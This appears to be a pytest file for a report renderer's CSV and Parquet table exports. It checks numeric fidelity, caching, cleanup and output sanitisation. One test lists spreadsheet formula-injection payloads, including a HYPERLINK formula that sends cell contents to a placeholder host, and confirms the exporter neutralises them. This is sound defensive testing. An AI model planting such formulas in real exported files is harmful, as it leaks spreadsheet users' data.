"""Every table of the report as CSV and Parquet beside it, with the store's numbers; the history as one tidy table."""

import copy
import csv
import io
import json
import math
import os
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from synthetic import documents, write_store

from report import pipeline
from report.commands import publish_history
from report.render import tables
from report.render.load import load_findings


@pytest.fixture
def rendered(tmp_path):
    store = write_store(tmp_path / "stores")
    pipeline.render(pipeline.RenderPlan(tmp_path, store, ("html",)))
    return tmp_path, store


def read_csv(path) -> list[dict]:
    with open(path, newline="") as handle:  # a \r inside a cell is data
        return list(csv.DictReader(handle))


def test_every_table_of_the_page_is_written_and_named_by_the_page(rendered):
    out, _ = rendered
    html = (out / "report.html").read_text()
    tags = re.findall(r"<table\b[^>]*>", html)
    named = [re.search(r'data-table="([a-z_]+)"', tag) for tag in tags]
    assert tags and all(named), [t for t, n in zip(tags, named) if not n]
    ids = {n.group(1) for n in named}
    assert ids <= set(tables.TABLE_IDS)
    for table_id in ids:
        assert (out / "tables" / f"{table_id}.csv").is_file() and (out / "tables" / f"{table_id}.parquet").is_file()
        assert f'href="tables/{table_id}.csv"' in html
    listed = read_csv(out / "tables" / "index.csv")
    written = {p.stem for p in (out / "tables").glob("*.csv")} - {"index"}
    assert {row["id"] for row in listed} == written and ids <= written
    assert all(row["store"] == "synthetic" for row in listed)


def test_every_builder_has_a_registered_id_and_a_full_store_fills_every_table(synthetic_store):
    findings = load_findings(synthetic_store)
    made = [builder(findings) for builder in tables.TABLES]
    assert all(t is not None for t in made), [b.__name__ for b, t in zip(tables.TABLES, made) if t is None]
    assert [t.id for t in made] == [i for i in tables.TABLE_IDS if i != "index"]
    assert all(t.rows and all(len(row) == len(t.columns) for row in t.rows) for t in made)


def test_tables_of_sections_left_out_are_not_written(tmp_path):
    docs = copy.deepcopy(documents())
    del docs["activations.json"], docs["separation.json"]
    store = write_store(tmp_path / "stores", docs)
    pipeline.render(pipeline.RenderPlan(tmp_path, store, ("html",), sections=("parameters", "shapes")))
    written = {p.stem for p in (tmp_path / "tables").glob("*.csv")}
    assert written == {"parameters", "shapes", "provenance", "index"}


def test_the_csv_numbers_are_the_stores(rendered):
    out, store = rendered
    docs = {name: json.loads((store / name).read_text()) for name in
            ("model.json", "evaluation.json", "embeddings.json", "separation.json")}
    layers = read_csv(out / "tables" / "parameters.csv")
    stored = docs["model.json"]["parameters"]["layers"]
    assert [r["layer"] for r in layers] == [layer["name"] for layer in stored]
    assert [int(r["total"]) for r in layers] == [layer["total"] for layer in stored]
    assert sum(int(r["total"]) for r in layers) == docs["model.json"]["parameters"]["total"]
    accuracy = read_csv(out / "tables" / "class_accuracy.csv")
    assert [(int(r["class"]), int(r["images"]), float(r["accuracy"])) for r in accuracy] == \
        [(c["class"], c["n"], c["accuracy"]) for c in docs["evaluation.json"]["per_class"]]
    from scipy.stats import binomtest
    from sklearn.metrics import precision_recall_fscore_support

    labels, predicted = docs["evaluation.json"]["labels"], docs["evaluation.json"]["predicted"]
    precision, _, f1, _ = precision_recall_fscore_support(labels, predicted, labels=[0, 1, 2], zero_division=0)
    for r, c, p, f in zip(accuracy, docs["evaluation.json"]["per_class"], precision, f1):  # recomputed here
        wilson = binomtest(c["correct"], c["n"]).proportion_ci(method="wilson")
        assert float(r["accuracy_ci_low"]) == pytest.approx(wilson.low) and float(r["accuracy_ci_high"]) == \
            pytest.approx(wilson.high)
        assert float(r["precision"]) == pytest.approx(p) and float(r["f1"]) == pytest.approx(f)
        assert int(r["predicted"]) == predicted.count(c["class"])
    pairs = [r for r in read_csv(out / "tables" / "distance_pairs.csv") if r["metric"] == "mse"]
    assert [float(r["distance"]) for r in pairs] == [p["distance"] for p in
                                                      docs["embeddings.json"]["distances"]["mse"]["pairs"]]
    spread = read_csv(out / "tables" / "class_spread.csv")
    assert [float(r["intra_mean"]) for r in spread] == [c["intra_mean"] for c in docs["separation.json"]["per_class"]]
    vectors = read_csv(out / "tables" / "embeddings.csv")
    assert [[float(r[f"d{i}"]) for i in range(len(s["vector"]))] for r, s in
            zip(vectors, docs["embeddings.json"]["samples"])] == [s["vector"] for s in docs["embeddings.json"]["samples"]]
    filters = read_csv(out / "tables" / "filters.csv")
    first = docs["separation.json"]["filters"][0]
    assert [float(r["mean"]) for r in filters if r["layer"] == first["module"]] == first["mean"]
    assert sum(r["dead"] == "true" for r in filters if r["layer"] == first["module"]) == len(first["dead"])


def test_parquet_and_csv_hold_the_same_table(rendered):
    out, _ = rendered
    for table_id in ("parameters", "class_accuracy", "distance_pairs", "filters", "confusion", "depth"):
        from_csv = pd.read_csv(out / "tables" / f"{table_id}.csv")
        from_parquet = pd.read_parquet(out / "tables" / f"{table_id}.parquet")
        assert list(from_csv.columns) == list(from_parquet.columns)
        numbers = from_csv.select_dtypes("number").columns
        assert len(numbers), table_id
        pd.testing.assert_frame_equal(from_csv[numbers].astype(float), from_parquet[numbers].astype(float))
    shapes = pd.read_parquet(out / "tables" / "parameters.parquet")
    assert list(shapes["weight_shape"].iloc[0]) == json.loads(pd.read_csv(out / "tables" / "parameters.csv")
                                                               ["weight_shape"].iloc[0])


def test_names_from_the_data_stay_text_in_the_csv(tmp_path):
    docs = copy.deepcopy(documents())
    docs["evaluation.json"]["class_names"][1] = 'two, "quoted"\nand a line'
    store = write_store(tmp_path / "stores", docs)
    pipeline.render(pipeline.RenderPlan(tmp_path, store, ("html",)))
    rows = read_csv(tmp_path / "tables" / "class_accuracy.csv")
    assert rows[1]["name"] == 'two, "quoted"\nand a line' and len(rows) == len(docs["evaluation.json"]["per_class"])


@pytest.mark.parametrize("name", ['=HYPERLINK("https://example.invalid/?leak="&A1)', "+1+cmd", "-2+3", "@SUM(A1:A9)",
                                  "\t=1", "\r=1"])
def test_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path, name):
    """The OWASP rule for CSV injection: a class named like a formula is shown as text by a spreadsheet."""
    docs = copy.deepcopy(documents())
    docs["evaluation.json"]["class_names"][1] = name
    store = write_store(tmp_path / "stores", docs)
    pipeline.render(pipeline.RenderPlan(tmp_path, store, ("html",)))
    cells = [row["name"] for row in read_csv(tmp_path / "tables" / "class_accuracy.csv")]
    assert cells[1] == "'" + name
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    every = "".join((tmp_path / "tables" / f).read_text() for f in os.listdir(tmp_path / "tables") if f.endswith(".csv"))
    assert "\n" + name not in every and "," + name not in every  # nowhere as a bare cell


def test_escape_sequences_from_the_data_are_escaped_in_the_csv():
    from report.render.tables import _cell

    assert _cell("red\x1b[31m\x07\u202etxt") == "red\\x1b[31m\\x07\\u202etxt"
    assert _cell("two\nlines\tand\rmore") == "two\nlines\tand\rmore"  # quoted by the CSV writer, kept


def test_numbers_held_as_text_stay_numbers_in_the_csv():
    from report.render.tables import _cell

    assert [_cell(v) for v in ("-3.5", "+2", "-1e-05", -3, -2.5, "-x")] == ["-3.5", "+2", "-1e-05", "-3", "-2.5", "'-x"]


def _history_store(tmp_path, name, accuracy, silhouette, epoch):
    docs = copy.deepcopy(documents())
    docs["evaluation.json"]["accuracy"] = accuracy
    docs["evaluation.json"]["position"] = {"epoch": epoch}
    docs["separation.json"]["silhouette"] = silhouette
    return write_store(tmp_path / "stores", docs, key=name)


def test_the_history_is_one_tidy_table_pandas_reads_as_is(tmp_path):
    series = [(f"e{n}.pt", _history_store(tmp_path, f"s{n}", 0.5 + n / 10, n / 10, n)) for n in (1, 2, 3)]
    made = publish_history(tmp_path / "out", series, "step", ("html",))
    frame = pd.read_csv(made["table"])
    assert list(frame.columns) == ["order", "checkpoint", "epoch", "step", "store", "run", "metric", "distance",
                                   "value"]
    wide = frame.pivot(index="checkpoint", columns="metric", values="value")
    assert wide["accuracy"].to_dict() == {"e1.pt": 0.6, "e2.pt": 0.7, "e3.pt": 0.8}
    assert wide["silhouette"].to_dict() == {"e1.pt": 0.1, "e2.pt": 0.2, "e3.pt": 0.3}
    doc = json.loads((made["series"] / "history.json").read_text())
    assert wide.loc["e2.pt", "separation_ratio"] == doc["rows"][1]["ratio"]
    assert frame.groupby("checkpoint")["epoch"].first().to_dict() == {"e1.pt": 1, "e2.pt": 2, "e3.pt": 3}
    parquet = pd.read_parquet(tmp_path / "out" / "history.parquet")
    pd.testing.assert_frame_equal(parquet.drop(columns=["step", "run"]), frame.drop(columns=["step", "run"]),
                                  check_dtype=False)
    assert parquet["step"].isna().all() and frame["step"].isna().all()  # no checkpoint recorded a step
    assert parquet["run"].isna().all() and frame["run"].isna().all()  # nor a training run
    assert len(frame) == made["rows"] and set(frame["metric"]) >= {"accuracy", "two_sample_intra_mean"}


def test_clean_removes_the_tables_and_keeps_a_file_of_the_users(rendered):
    from report.buildfolder import clean, prepare

    out, _ = rendered
    prepare(out)
    (out / "tables" / "mine.csv").write_text("a\n1\n")
    removed, kept = clean(out)
    assert "tables/parameters.csv" in removed and "tables/index.csv" in removed
    # the synthetic store is named "synthetic", which no store of the tool is (they are named by a 16-digit key)
    assert sorted(kept) == ["stores/synthetic", "tables/mine.csv"]


def test_parquet_is_made_once_per_table_content_and_the_cache_keeps_the_last_reports_only(tmp_path, monkeypatch):
    from report import exports

    made = []
    real = exports.parquet_bytes
    monkeypatch.setattr(exports, "parquet_bytes", lambda table: made.append(table.id) or real(table))
    first = write_store(tmp_path / "stores")
    pipeline.render(pipeline.RenderPlan(tmp_path, first, ("html",)))
    written = {p.name: p.read_bytes() for p in (tmp_path / "tables").glob("*.parquet")}
    assert sorted(made) == sorted(name.removesuffix(".parquet") for name in written)
    cached = sorted((tmp_path / exports.PARQUET_CACHE).iterdir())
    assert len(cached) == len(written)

    made.clear()  # the same store again (a new stylesheet, say): every table from the cache, the same bytes
    pipeline.render(pipeline.RenderPlan(tmp_path, first, ("html",), force=True))
    assert made == [] and {p.name: p.read_bytes() for p in (tmp_path / "tables").glob("*.parquet")} == written

    docs = copy.deepcopy(documents())  # one number changed: that table is made again, and the provenance (its store)
    docs["evaluation.json"]["per_class"][0]["accuracy"] = 0.123
    second = write_store(tmp_path / "stores", docs, key="other")
    pipeline.render(pipeline.RenderPlan(tmp_path, second, ("html",)))
    assert sorted(made) == ["class_accuracy", "provenance"]
    assert pd.read_parquet(tmp_path / "tables" / "class_accuracy.parquet")["accuracy"].iloc[0] == 0.123
    now = sorted((tmp_path / exports.PARQUET_CACHE).iterdir())
    assert len(now) == len(cached) and len(set(now) - set(cached)) == 2  # the first report's two are gone



KINDS = tables.Table("kinds", "Every kind of cell", "parameters",
                     ("n", "x", "flag", "name", "shape", "mixed", "empty"),
                     [(1, 0.5, True, 'a, "b"\nc é', [3, 1], 1, None),
                      (None, float("inf"), False, "", (2,), "text", None),
                      (-(2**62), 2, None, None, None, [1, 2], None),
                      (0, float("nan"), True, "0", [], None, None)])


def test_parquet_keeps_each_kind_of_cell():
    from report.exports import parquet_bytes

    arrow = pq.read_table(io.BytesIO(parquet_bytes(KINDS)))
    assert [str(field.type) for field in arrow.schema] == ["int64", "double", "bool", "string", "list<element: int64>",
                                                          "string", "null"]
    columns = arrow.to_pydict()
    assert columns["n"] == [1, None, -(2**62), 0] and columns["flag"] == [True, False, None, True]
    assert columns["x"][:3] == [0.5, float("inf"), 2.0] and math.isnan(columns["x"][3])
    assert columns["name"] == ['a, "b"\nc é', "", None, "0"]
    assert columns["shape"] == [[3, 1], [2], None, []]
    assert columns["mixed"] == ["1", "text", "[1, 2]", None] and columns["empty"] == [None] * 4
    empty = pq.read_table(io.BytesIO(parquet_bytes(tables.Table("none", "", "parameters", ("a", "b"), []))))
    assert empty.column_names == ["a", "b"] and empty.num_rows == 0


def test_writing_parquet_loads_no_pandas():
    """pandas costs every analysis 0.2 s and 100 MiB; pyarrow loads it on most of its ways in."""
    probe = ("import sys; from report.exports import parquet_bytes; from report.render.tables import Table; "
             "parquet_bytes(Table('k', '', 'parameters', ('a', 'b', 'c'), [(1, 'x', [2])])); "
             "parquet_bytes(Table('e', '', 'parameters', ('a',), [])); print('pandas' in sys.modules)")
    result = subprocess.run([sys.executable, "-c", probe], cwd=Path(__file__).resolve().parents[1],
                            capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "False"
